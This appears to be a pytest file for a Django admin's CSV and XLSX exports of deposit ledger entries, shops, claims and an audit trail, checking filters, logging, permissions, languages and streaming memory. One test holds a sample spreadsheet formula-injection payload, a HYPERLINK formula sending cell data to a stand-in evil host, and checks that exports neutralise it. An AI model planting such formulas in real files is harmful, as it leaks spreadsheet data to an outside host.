"""Exports of the filtered admin lists: exactly the rows the list shows, exact amounts, an entry in
the export log with the filters, refused to roles without the permission, formula cells made
harmless, and memory that does not grow with the number of rows."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group, User
from django.db import connection
from django.test import Client
from openpyxl import load_workbook

from claims import services as claim_services
from deposits.admin.ledger import EntryAdmin
from deposits.models import Entry
from partners.services import partner_get_or_create
from shops.models import ExportLog, Shop, ShopRestriction
from tests.factories import fund, make_shop, make_user

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.postgres(reason="exports stream through server-side cursors; the trail is SQL"),
]

ENTRIES = "/admin/deposits/entry/"
SHOPS = "/admin/shops/shop/"
CLAIMS = "/admin/claims/claim/"
AUDIT = "/admin/audit/auditevent/"


def role_client(role: str, *, language: str = "en") -> Client:
    user = User.objects.filter(username=f"{role}-exports").first()
    if user is None:
        user = make_user(f"{role}-exports")
        user.is_staff = True
        user.save()
        user.groups.add(Group.objects.get(name=role))
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Chinese right only with the BOM
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def named_shop(name: str, now, *, funded: int = 0):  # type: ignore[no-untyped-def]
    shop, account = make_shop(now=now)
    Shop.objects.filter(pk=shop.pk).update(name=name)
    if funded:
        fund(account, funded, now=now)
    shop.refresh_from_db()
    account.refresh_from_db()
    return shop, account


class TestLedgerEntries:
    def test_the_csv_of_a_searched_and_filtered_list_holds_exactly_its_rows(self, now):
        _, account = named_shop("Lotus Tea House", now, funded=123_456)
        fund(account, 99, now=now)
        named_shop("Other Shop", now, funded=500_000)  # not searched for: not exported
        client = role_client("finance")

        response = client.get(
            ENTRIES + "export-csv/", {"q": "Lotus Tea House", "kind__exact": "TOP_UP"}
        )

        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        header, *rows = csv_rows(response)
        assert header[:2] == ["entry", "transaction"]
        expected = Entry.objects.filter(account=account, kind="TOP_UP").order_by("-id")
        assert [int(row[0]) for row in rows] == [e.pk for e in expected]
        amount = header.index("amount")
        currency = header.index("currency")
        assert [(row[amount], row[currency]) for row in rows] == [
            ("0.99", "CNY"),
            ("1234.56", "CNY"),
        ]
        assert {row[header.index("shop")] for row in rows} == {"Lotus Tea House"}

    def test_the_export_is_in_the_log_with_its_filters_and_row_count(self, now):
        named_shop("Lotus Tea House", now, funded=10_000)
        client = role_client("finance")

        csv_rows(client.get(ENTRIES + "export-csv/", {"q": "Lotus", "kind__exact": "TOP_UP"}))

        log = ExportLog.objects.get()
        assert log.username == "finance-exports"
        assert log.list_label == "deposits.entry"
        assert log.file_format == "csv"
        assert log.filters == {"q": ["Lotus"], "kind__exact": ["TOP_UP"]}
        assert log.row_count == 1
        assert log.finished_at is not None

        supervisor_view = role_client("supervisor").get("/admin/shops/exportlog/")
        assert supervisor_view.status_code == 200
        assert "finance-exports" in supervisor_view.content.decode()
        assert "kind__exact=TOP_UP; q=Lotus" in supervisor_view.content.decode()
        assert role_client("finance").get("/admin/shops/exportlog/").status_code == 403

    def test_the_list_links_its_export_buttons_with_its_filters(self, now):
        client = role_client("finance")

        page = client.get(ENTRIES, {"q": "Lotus", "kind__exact": "TOP_UP"}).content.decode()

        assert ENTRIES + "export-csv/?q=Lotus&amp;kind__exact=TOP_UP" in page
        assert ENTRIES + "export-xlsx/?q=Lotus&amp;kind__exact=TOP_UP" in page

    @pytest.mark.parametrize("role", ["risk", "claims_agent"])
    def test_a_role_without_the_permission_is_refused_and_nothing_is_logged(self, role, now):
        named_shop("Lotus Tea House", now, funded=10_000)
        client = role_client(role)

        assert client.get(ENTRIES + "export-csv/").status_code == 403
        assert client.get(ENTRIES + "export-xlsx/").status_code == 403
        assert "export-csv" not in client.get(ENTRIES).content.decode()
        assert ExportLog.objects.count() == 0


class TestShopsWithCoverage:
    def test_the_xlsx_opens_with_the_coverage_of_each_filtered_shop(self, now):
        shop, account = named_shop("Lotus Tea House", now, funded=100_000)
        named_shop("Other Shop", now)
        client = role_client("auditor")

        response = client.get(SHOPS + "export-xlsx/", {"q": "Lotus"})

        assert response.status_code == 200
        [header, row] = xlsx_rows(response)
        cells = dict(zip(header, row, strict=True))
        required = account.required_minor
        assert required > 100_000  # the shop is short
        assert cells["shop"] == "Lotus Tea House"
        assert cells["currency"] == "CNY"
        assert cells["cash paid in"] == "1000.00"
        assert cells["requirement"] == f"{required // 100}.{required % 100:02d}"
        short = required - 100_000
        assert cells["shortfall"] == f"{short // 100}.{short % 100:02d}"
        assert cells["held for claims"] == "0.00"
        assert cells["guarantees"] == "0.00"
        assert ExportLog.objects.get().row_count == 1

    def test_headers_are_in_the_readers_language(self, now):
        named_shop("Lotus Tea House", now, funded=100_000)
        client = role_client("supervisor", language="zh-hans")

        header, _row = csv_rows(client.get(SHOPS + "export-csv/", {"q": "Lotus"}))

        assert "缺口" in header  # shortfall
        assert "币种" in header  # currency


@pytest.fixture
def partner(db):  # type: ignore[no-untyped-def]
    return partner_get_or_create(name="Tmall")


def file_claim(partner, shop, now, *, description: str, ref: str):  # type: ignore[no-untyped-def]
    claim, _ = claim_services.claim_file(
        partner_id=partner.pk,
        shop=shop,
        external_ref=ref,
        reason="LATE_SHIPMENT",
        order_ref=f"O-{ref}",
        order_paid_minor=100_000,
        currency="CNY",
        order_paid_at=now - timedelta(days=3),
        order_shipped_at=None,
        consumer_ref="buyer-1",
        description=description,
        now=now,
    )
    return claim


class TestClaims:
    def test_decided_claims_export_with_the_award_and_who_decided(self, partner, now):
        shop, account = make_shop(now=now - timedelta(days=30), partner_id=partner.pk)
        fund(account, 5_000_000, now=now - timedelta(days=30))
        claim = file_claim(partner, shop, now, description="Not shipped.", ref="C-UPHELD")
        claim = claim_services.claim_escalate(claim=claim, now=now)
        claim_services.claim_decide(
            claim=claim, outcome="UPHELD", now=now, actor="OPS", actor_label="ops-anna"
        )
        file_claim(partner, shop, now, description="Still talking.", ref="C-OPEN")
        client = role_client("claims_agent")

        header, *rows = csv_rows(client.get(CLAIMS + "export-csv/", {"status__exact": "DECIDED"}))

        [row] = rows
        cells = dict(zip(header, row, strict=True))
        claim.refresh_from_db()
        assert cells["partner's reference"] == "C-UPHELD"
        assert cells["outcome"] == "Upheld"
        assert cells["order paid"] == "1000.00"
        assert cells["compensation"] == (
            f"{claim.compensation_minor // 100}.{claim.compensation_minor % 100:02d}"
        )
        assert cells["decided by"] == "ops-anna"

    def test_a_consumer_text_starting_with_a_formula_is_neutralised_in_csv_and_xlsx(
        self, partner, now
    ):
        shop, _ = make_shop(now=now, partner_id=partner.pk)
        evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        file_claim(partner, shop, now, description=evil, ref="C-EVIL")
        client = role_client("finance")

        header, row = csv_rows(client.get(CLAIMS + "export-csv/", {"q": "C-EVIL"}))
        [xheader, xrow] = xlsx_rows(client.get(CLAIMS + "export-xlsx/", {"q": "C-EVIL"}))

        assert row[header.index("description")] == "'" + evil
        assert xrow[xheader.index("description")] == "'" + evil


class TestAuditTrail:
    def test_the_filtered_audit_trail_exports_with_the_actor(self, now):
        shop, _ = make_shop(now=now)
        oversight = role_client("supervisor")
        freezer = make_user("ops-anna", staff=True)
        admin_client = Client()
        admin_client.force_login(freezer)
        admin_client.post(
            SHOPS, {"action": "freeze", "_selected_action": [shop.pk], "reason": "fraud check"}
        )
        restriction = ShopRestriction.objects.get(shop=shop, kind="FROZEN")
        filters = {"model": "audit.ShopRestrictionEvent", "actor": f"user:{freezer.pk}"}

        header, *rows = csv_rows(oversight.get(AUDIT + "export-csv/", filters))

        [row] = rows
        assert row[header.index("object id")] == str(restriction.pk)
        assert row[header.index("actor")] == "ops-anna"
        assert row[header.index("event")] == "Created"
        assert "fraud check" in row[header.index("what changed")]
        log = ExportLog.objects.get()
        assert log.list_label == "audit.auditevent"
        assert log.filters == {k: [v] for k, v in filters.items()}
        assert log.row_count == 1

    def test_finance_may_not_export_the_audit_trail(self, now):
        assert role_client("finance").get(AUDIT + "export-csv/").status_code == 403


def _bulk_entries(count: int, now) -> None:  # type: ignore[no-untyped-def]
    """`count` entries, a balancing pair per transaction (each transaction sums to zero, so the
    ledger's deferred check at the end of the test stays cheap), written by one statement."""
    _, account = named_shop("Bulk Shop", now, funded=100)
    posted = Entry.objects.filter(account=account).first()
    other = Entry.objects.filter(transaction=posted.transaction).exclude(account=account).first()
    with connection.cursor() as cursor:
        cursor.execute(
            """
            WITH tx AS (
                INSERT INTO deposits_ledgertransaction (public_id, idempotency_key, fingerprint,
                    kind, status, error_code, account_id, amount_minor, currency, reason,
                    reference, occurred_at, recorded_at)
                SELECT gen_random_uuid(), 'bulk-' || gen_random_uuid(), 'bulk', 'TOP_UP',
                    'POSTED', '', %s, 12345, 'CNY', 'bulk', '', %s, %s
                FROM generate_series(1, %s)
                RETURNING id
            )
            INSERT INTO deposits_entry (transaction_id, account_id, bucket, amount_minor,
                currency, kind, reason, reference, occurred_at, recorded_at)
            SELECT tx.id, side.account_id, 'POSTED', side.amount, 'CNY', 'TOP_UP',
                'bulk row with some text', 'REF-' || tx.id, %s, %s
            FROM tx CROSS JOIN (VALUES (%s::bigint, 12345), (%s::bigint, -12345))
                AS side(account_id, amount)
            """,
            [account.pk, now, now, count // 2, now, now, account.pk, other.account_id],
        )


def _peak_of_export(client: Client, path: str) -> tuple[int, int]:
    tracemalloc.start()
    try:
        response = client.get(path)
        size = sum(len(chunk) for chunk in response.streaming_content)
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("path", [ENTRIES + "export-csv/", ENTRIES + "export-xlsx/"])
def test_memory_stays_flat_when_the_export_grows_fivefold(path, now, monkeypatch):
    # Chunks of 100 rows (2,000 in production) keep the test short: both sizes span many
    # chunks. bench/export_bench.py measures 100,000 entries with the real chunk size.
    monkeypatch.setattr(EntryAdmin, "export_chunk_size", 100)
    client = role_client("finance")
    _bulk_entries(600, now)
    small_peak, small_size = _peak_of_export(client, path)
    _bulk_entries(2_400, now)  # 3,000 now

    large_peak, large_size = _peak_of_export(client, path)

    assert large_size > 3 * small_size
    # Built in memory, five times the rows would take about five times the memory; streamed,
    # the peak is a chunk of rows plus fixed costs.
    assert large_peak < small_peak * 1.3 + 512 * 1024, (small_peak, large_peak)
